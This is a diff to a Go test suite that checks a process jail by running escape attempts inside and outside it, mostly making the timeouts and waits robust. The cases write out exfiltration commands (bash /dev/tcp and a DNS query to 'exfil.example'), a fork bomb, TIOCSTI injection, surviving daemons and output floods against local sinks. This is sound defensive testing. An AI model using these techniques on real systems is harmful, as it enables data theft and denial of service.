@@ -1,6 +1,7 @@
 package escape
 
 import (
+	"errors"
 	"fmt"
 	"os"
 	"os/exec"
@@ -8,6 +9,7 @@ import (
 	"strconv"
 	"strings"
 	"sync"
+	"syscall"
 	"testing"
 	"time"
 	"unsafe"
@@ -254,11 +256,12 @@ func supervisorControl(t *testing.T, e *env, direct func() bool, viaVictim func(
 	// The supervisor is non-dumpable except for the instant of a clone
 	// into a new user namespace (see supervisor.startInUserNS); parallel
 	// cases may be in that instant, so look until it is over.
-	d, err := unix.PrctlRetInt(unix.PR_GET_DUMPABLE, 0, 0, 0, 0)
-	for deadline := time.Now().Add(2 * time.Second); (err != nil || d != 0) && time.Now().Before(deadline); {
-		time.Sleep(time.Millisecond)
+	var d int
+	var err error
+	waitEvent(t, func() bool {
 		d, err = unix.PrctlRetInt(unix.PR_GET_DUMPABLE, 0, 0, 0, 0)
-	}
+		return err == nil && d == 0
+	})
 	if err != nil || d != 0 {
 		controlFail(t, "the supervisor should be non-dumpable (got %d, %v)", d, err)
 	}
@@ -859,7 +862,7 @@ func networkCases() []escCase {
 					}
 					e.argv([]string{"python3", "-c", script, target, payload(e)}, opts...)
 				}
-				if !s.contains(payload(e)) {
+				if !s.contains(t, payload(e)) {
 					controlFail(t, "the sink %s did not receive the payload (granted: %v)", s.addr, grant != nil)
 				}
 			},
@@ -899,7 +902,7 @@ func networkCases() []escCase {
 			control: func(t *testing.T, e *env) {
 				s := tcpSink(t)
 				e.argv([]string{"bash", "-c", fmt.Sprintf(`echo %s > /dev/tcp/127.0.0.1/%d`, payload(e), s.port)}, withNetwork())
-				if !s.contains(payload(e)) {
+				if !s.contains(t, payload(e)) {
 					controlFail(t, "bash /dev/tcp with the network granted did not reach the sink")
 				}
 			},
@@ -918,7 +921,7 @@ func networkCases() []escCase {
 				s := udpSink(t, true)
 				res := e.argv([]string{"python3", "-c", pyDNS, strconv.Itoa(s.port), "q" + e.canary[len(e.canary)-8:] + ".exfil.example"}, withNetwork())
 				e.wantIn(res, "ANSWER 10.66.77.88", "the DNS answer with the network granted")
-				if !s.contains("exfil") {
+				if !s.contains(t, "exfil") {
 					controlFail(t, "the resolver sink saw no query")
 				}
 			},
@@ -1010,7 +1013,7 @@ func supervisorCases() []escCase {
 				v := getVictim(t)
 				before := v.sigs.Load()
 				e.outside("kill", "-TERM", strconv.Itoa(v.pid))
-				if !waitFor(3*time.Second, func() bool { return v.sigs.Load() > before }) {
+				if !waitEvent(t, func() bool { return v.sigs.Load() > before }) {
 					controlFail(t, "the victim did not count a SIGTERM sent outside the jail")
 				}
 			},
@@ -1077,7 +1080,7 @@ func signalCase(name, script, unprivOnly string, alsoVictim bool) escCase {
 		control: func(t *testing.T, e *env) {
 			before := sigCount.Load()
 			e.outside("kill", "-TERM", strconv.Itoa(os.Getpid()))
-			if !waitFor(3*time.Second, func() bool { return sigCount.Load() > before }) {
+			if !waitEvent(t, func() bool { return sigCount.Load() > before }) {
 				controlFail(t, "the supervisor did not count a SIGTERM sent from outside the jail")
 			}
 		},
@@ -1103,6 +1106,33 @@ func signalCase(name, script, unprivOnly string, alsoVictim bool) escCase {
 // ---------------------------------------------------------------------------
 // kernel surface
 
+// foreignABIAbsent says why the i386 or x32 probe cannot run outside the
+// jail on this kernel (then there is no foreign ABI to escape through), or
+// "" when it can. The probe says NOIA32 when int 0x80 faulted (a kernel
+// without IA32 emulation, or booted with ia32_emulation=0); an x32
+// syscall fails with ENOSYS without CONFIG_X86_X32_ABI.
+func foreignABIAbsent(sub, stderr string) string {
+	switch {
+	case sub == "int80" && strings.Contains(stderr, "NOIA32"):
+		return "this kernel has no IA32 emulation (int 0x80 faults outside the jail too), so there is no i386 syscall to escape with; the filter's kill of a foreign architecture is covered by jail/seccomp_test.go"
+	case sub == "x32" && strings.Contains(stderr, "Function not implemented"):
+		return "this kernel has no x32 ABI (CONFIG_X86_X32_ABI off): an x32 syscall does nothing anywhere, so there is nothing to escape with; the filter's x32 kill is covered by jail/seccomp_test.go"
+	}
+	return ""
+}
+
+// unprivilegedBPFDisabled is the bpf case's reason to be root-only: with
+// kernel.unprivileged_bpf_disabled set, no unprivileged process can call
+// bpf(2), in or out of the jail. Where it is 0 the case runs as uid 65534
+// too.
+func unprivilegedBPFDisabled() string {
+	b, err := os.ReadFile("/proc/sys/kernel/unprivileged_bpf_disabled")
+	if v := strings.TrimSpace(string(b)); err == nil && v != "0" {
+		return "kernel.unprivileged_bpf_disabled=" + v + " forbids bpf(2) to every unprivileged process, so the attack cannot exist for this user"
+	}
+	return ""
+}
+
 func kernelCases() []escCase {
 	// probeCase: the probe prints tag+canary only when the syscall worked.
 	probeCase := func(name, sub, tag string, extra func(e *env) []string, onlyRoot string) escCase {
@@ -1120,8 +1150,8 @@ func kernelCases() []escCase {
 					a = a[:4] // never the "direct" mount outside the jail
 				}
 				out, errOut := e.outside(a...)
-				if sub == "x32" && strings.Contains(errOut, "Function not implemented") {
-					t.Skip("this kernel has no x32 ABI (CONFIG_X86_X32_ABI off): an x32 syscall does nothing anywhere, so there is nothing to escape with; the filter's x32 kill is covered by jail/seccomp_test.go")
+				if why := foreignABIAbsent(sub, errOut); why != "" {
+					notApplicable(t, "%s", why)
 				}
 				if !strings.Contains(out, tag+e.canary) {
 					controlFail(t, "the probe %q did not work outside the jail", sub)
@@ -1140,7 +1170,7 @@ func kernelCases() []escCase {
 	}
 	return []escCase{
 		probeCase("keyctl", "keyctl", "KEY:", nil, ""),
-		probeCase("bpf", "bpf", "BPF:", nil, "kernel.unprivileged_bpf_disabled forbids bpf(2) to every unprivileged process, so the control cannot run"),
+		probeCase("bpf", "bpf", "BPF:", nil, unprivilegedBPFDisabled()),
 		probeCase("perf_event_open", "perf", "PERF:", nil, ""),
 		probeCase("io_uring", "iouring", "IOURING:", nil, ""),
 		probeCase("mount", "mount", "brigmnt-", mountDir, ""),
@@ -1211,7 +1241,7 @@ func terminalCases() []escCase {
 				p := openPTY(t)
 				token := "INJ" + randHex(5)
 				e.outside(args(p, token)...)
-				if !waitFor(3*time.Second, func() bool { return p.has(token) }) {
+				if !waitEvent(t, func() bool { return p.has(token) }) {
 					controlFail(t, "TIOCSTI outside the jail (probe in its own session, pty as controlling terminal) injected nothing")
 				}
 			},
@@ -1237,7 +1267,9 @@ func pySurvivor(marker, n string) string {
 	return `python3 -c 'import sys,time; open(sys.argv[1],"w").write("x"); time.sleep(300)' src/started-` + n + ` ` + marker
 }
 
-const waitStarted = `i=0; while [ ! -e src/started-1 ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done; `
+// waitStarted waits for the survivor to have started; the call's timeout
+// (or the control's caller) bounds the wait, however slow the machine.
+const waitStarted = `while [ ! -e src/started-1 ]; do sleep 0.05; done; `
 
 func survivorCases() []escCase {
 	allPasses := inLandlock | inSeccomp | inNoNS | inLandlockBare
@@ -1246,8 +1278,11 @@ func survivorCases() []escCase {
 			control: func(t *testing.T, e *env) {
 				marker := "brigsurvivor" + randHex(6)
 				t.Cleanup(func() { killMarked(marker) })
-				e.outsideFor(3*time.Second, "sh", "-c", script(marker))
-				if !waitFor(5*time.Second, func() bool { return len(markerPIDs(marker)) > 0 }) {
+				// The script's own argv carries the marker too: wait for
+				// the survivor's file, then for a process besides the script.
+				started := func() bool { return exists(filepath.Join(e.ws, "src/started-1")) }
+				e.outsideUntil(started, "sh", "-c", script(marker))
+				if !started() || !waitEvent(t, func() bool { return len(markerPIDs(marker)) > 0 }) {
 					controlFail(t, "outside the jail the script left no process behind, so it tests nothing")
 				}
 			},
@@ -1259,6 +1294,13 @@ func survivorCases() []escCase {
 					opts = append(opts, withLimits(lim))
 				}
 				res := e.sh(script(marker), opts...)
+				// A call whose timeout is the point may end before a slow
+				// machine started the survivor: scale the timeout and retry
+				// until it has (the test's deadline bounds the retries).
+				for scale := time.Duration(2); wantTimeout && !exists(filepath.Join(e.ws, "src/started-1")) && scale <= 64; scale *= 2 {
+					t.Logf("the survivor had not started when the call timed out; again with %d times the timeout", scale)
+					res = e.sh(script(marker), withLimits(func(l *jail.Limits) { lim(l); l.Timeout *= scale }))
+				}
 				if !exists(filepath.Join(e.ws, "src/started-1")) {
 					t.Fatalf("the survivor never started inside the jail, so the case proves nothing:\n%s", output(res))
 				}
@@ -1292,7 +1334,7 @@ func survivorCases() []escCase {
 				hb := filepath.Join(e.ws, "src/heartbeat")
 				e.outside("sh", "-c", daemonScript(marker))
 				size := fileSize(hb)
-				if !waitFor(5*time.Second, func() bool { return fileSize(hb) > size && size > 0 }) {
+				if !waitEvent(t, func() bool { return fileSize(hb) > size && size > 0 }) {
 					controlFail(t, "outside the jail the daemon's heartbeat did not keep growing")
 				}
 			},
@@ -1316,7 +1358,8 @@ func survivorCases() []escCase {
 }
 
 // daemonScript starts a classic double-fork daemon that appends to
-// src/heartbeat every 100 ms, and returns once it has beaten 3 times.
+// src/heartbeat every 100 ms, and returns once it has beaten 3 times
+// (however long that takes: the call's timeout is the bound).
 func daemonScript(marker string) string {
 	return `python3 -c '
 import os,sys,time
@@ -1327,7 +1370,7 @@ for fd in (0,1,2): os.close(fd)
 while True:
     with open("src/heartbeat","a") as f: f.write("x")
     time.sleep(0.1)
-' ` + marker + `; i=0; while [ $(wc -c < src/heartbeat 2>/dev/null || echo 0) -lt 3 ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done`
+' ` + marker + `; while [ $(wc -c < src/heartbeat 2>/dev/null || echo 0) -lt 3 ]; do sleep 0.05; done`
 }
 
 // ---------------------------------------------------------------------------
@@ -1338,19 +1381,26 @@ func exhaustionCases() []escCase {
 	return []escCase{
 		{family: "exhaustion", name: "fork bomb", passes: limitPasses, probe: true,
 			control: func(t *testing.T, e *env) {
-				created, peak, _ := runBomb(t, e, 120, 0)
-				if created < 120 {
-					controlFail(t, "without a process limit the bomb created only %d of 120 processes (peak %d seen)", created, peak)
+				b := runBomb(t, e, 120, 0)
+				if b.created < 120 {
+					controlFail(t, "without a process limit the bomb created only %d of 120 processes (peak %d seen)", b.created, b.peak)
 				}
 			},
 			attack: func(t *testing.T, e *env) {
 				const limit = 64
-				created, peak, res := runBomb(t, e, 400, limit)
-				if created > limit || peak > limit {
-					escaped(t, "Limits.Processes=%d did not bound the call (as %s): the bomb created %d processes, %d seen alive at once in /proc; the call's pids cgroup said %s", limit, who(), created, peak, bombCgroup(t))
+				b := runBomb(t, e, 400, limit)
+				if b.created > limit || b.peak > limit {
+					escaped(t, "Limits.Processes=%d did not bound the call (as %s): the bomb created %d processes, %d seen alive at once in /proc; the call's pids cgroup said %s", limit, who(), b.created, b.peak, bombCgroup(t))
 				}
-				if !res.TimedOut && res.ExitCode == 0 {
-					t.Errorf("the bomb should have ended by the call's timeout")
+				switch {
+				case b.failed > 0:
+				case errors.Is(b.err, syscall.EAGAIN):
+					// Without a user namespace RLIMIT_NPROC counts every
+					// process of this uid on the machine: the limit was
+					// met before the bomb could even start.
+					t.Logf("the process limit was already met when the bomb started: %v", b.err)
+				default:
+					t.Errorf("the bomb created %d processes and never saw a fork fail: it did not meet the limit, so the case proves nothing (jail error: %v)", b.created, b.err)
 				}
 			}},
 		{family: "exhaustion", name: "stdout flood", passes: limitPasses,
@@ -1400,14 +1450,22 @@ func exhaustionCases() []escCase {
 	}
 }
 
+// bomb is what a fork bomb run reported.
+type bomb struct {
+	created, failed int   // children forked, forks that failed (the bound met)
+	peak            int   // most of its processes seen alive at once in /proc
+	err             error // the jail's error, if the call failed
+}
+
 // runBomb runs the capped fork bomb in the jail with RLIMIT_NPROC=limit
-// (0: none set) and a 3 s timeout, polling /proc for its processes. It
-// returns how many the bomb says it created, the peak seen in /proc, and
-// checks that none survives the call.
-func runBomb(t *testing.T, e *env, bombCap, limit int) (int, int, jail.Result) {
+// (0: none set), polling /proc for its processes. The bomb reports once
+// every one of its processes has stopped forking and then exits, so the
+// call ends on that event, not on a timeout. It checks that no bomb
+// process survives the call.
+func runBomb(t *testing.T, e *env, bombCap, limit int) bomb {
 	marker := "brigbomb" + randHex(6)
 	t.Cleanup(func() { killMarked(marker) })
-	var peak int
+	var b bomb
 	var mu sync.Mutex
 	stop := make(chan struct{})
 	done := make(chan struct{})
@@ -1421,19 +1479,19 @@ func runBomb(t *testing.T, e *env, bombCap, limit int) (int, int, jail.Result) {
 			}
 			pids := markerPIDs(marker)
 			mu.Lock()
-			peak = max(peak, len(pids))
+			b.peak = max(b.peak, len(pids))
 			mu.Unlock()
 			if len(pids) > 0 {
 				noteCgroup(t, pids[0])
 			}
 		}
 	}()
-	res, err := e.call([]string{probeBin, "bomb", strconv.Itoa(bombCap), marker}, withLimits(func(l *jail.Limits) {
+	res, err := e.call([]string{probeBin, "bomb", strconv.Itoa(bombCap), marker, "exit"}, withLimits(func(l *jail.Limits) {
 		l.Processes = uint64(limit)
-		l.Timeout = 3 * time.Second
 	}))
 	close(stop)
 	<-done
+	b.err = err
 	if err != nil {
 		// Not judged by itself (it is what a crashed init looks like);
 		// what matters is the bound and that nothing survives.
@@ -1442,15 +1500,19 @@ func runBomb(t *testing.T, e *env, bombCap, limit int) (int, int, jail.Result) {
 	if pids := markerPIDs(marker); len(pids) > 0 {
 		escaped(t, "%d bomb processes survive the call (jail error: %v)", len(pids), err)
 	}
-	var created int
+	reported := false
 	for _, l := range strings.Split(string(res.Stdout), "\n") {
 		if strings.HasPrefix(l, "BOMB ") {
-			fmt.Sscanf(l, "BOMB created=%d", &created)
+			_, serr := fmt.Sscanf(l, "BOMB created=%d failed_forks=%d", &b.created, &b.failed)
+			reported = serr == nil
 		}
+	}
+	if !reported && err == nil {
+		t.Fatalf("the bomb did not report what it did (exit %d, timed out %v):\n%s", res.ExitCode, res.TimedOut, output(res))
 	}
 	mu.Lock()
 	defer mu.Unlock()
-	return created, peak, res
+	return b
 }
 
 var bombCgroups sync.Map // test name -> "pids.max=N (cgroup path)"
@@ -1496,17 +1558,31 @@ func flood(t *testing.T, e *env, stderr bool) {
 	if stderr {
 		script += ` >&2`
 	}
-	start := time.Now()
-	res := e.sh(script, withLimits(func(l *jail.Limits) { l.OutputBytes = limit; l.Timeout = 2 * time.Second }))
-	got, trunc := res.Stdout, res.StdoutTruncated
-	if stderr {
-		got, trunc = res.Stderr, res.StderrTruncated
+	// The flood runs until its timeout. On a loaded machine it may not
+	// even reach the cap by then, which proves nothing either way: scale
+	// the timeout and flood again until it does.
+	var res jail.Result
+	var got []byte
+	var trunc bool
+	for timeout := 2 * time.Second; ; timeout *= 2 {
+		res = e.sh(script, withLimits(func(l *jail.Limits) { l.OutputBytes = limit; l.Timeout = timeout }))
+		got, trunc = res.Stdout, res.StdoutTruncated
+		if stderr {
+			got, trunc = res.Stderr, res.StderrTruncated
+		}
+		if trunc || len(got) > limit || !res.TimedOut {
+			break
+		}
+		if timeout >= 2*time.Minute {
+			t.Fatalf("in %s the flood wrote only %d bytes, never reaching the %d-byte cap: the case proves nothing", timeout, len(got), limit)
+		}
+		t.Logf("the flood wrote only %d bytes before its %s timeout; again with twice the timeout", len(got), timeout)
 	}
 	if len(got) > limit+200 || !trunc {
 		escaped(t, "OutputBytes=%d kept %d bytes (truncated flag %v)", limit, len(got), trunc)
 	}
-	if !res.TimedOut || time.Since(start) > 10*time.Second {
-		t.Errorf("the flood should end by the 2 s timeout (timed out %v after %s)", res.TimedOut, time.Since(start))
+	if !res.TimedOut {
+		t.Errorf("the flood should have been ended by its timeout")
 	}
 	if pids := markerPIDs(marker); len(pids) > 0 {
 		escaped(t, "the flooding process %v survives the call", pids)
